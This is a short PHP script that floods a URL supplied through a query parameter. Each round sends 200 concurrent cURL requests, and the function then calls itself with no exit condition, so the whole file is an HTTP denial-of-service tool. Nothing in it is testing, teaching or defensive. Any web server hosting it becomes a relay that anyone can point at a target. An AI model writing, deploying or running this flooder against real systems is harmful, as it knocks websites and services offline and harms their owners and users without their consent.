<?php
// requests fired in parallel batches, the function calling itself for ever
function wave($target, $size)
{
    $mh = curl_multi_init();
    $hs = array();
    for ($i = 0; $i < $size; $i++) {
        $hs[$i] = curl_init();
        curl_setopt($hs[$i], CURLOPT_URL, $target);
        curl_setopt($hs[$i], CURLOPT_RETURNTRANSFER, 1);
        curl_multi_add_handle($mh, $hs[$i]);
    }
    do {
        curl_multi_exec($mh, $running);
    } while ($running > 0);
    wave($target, $size);
}
wave($_GET['u'], 200);
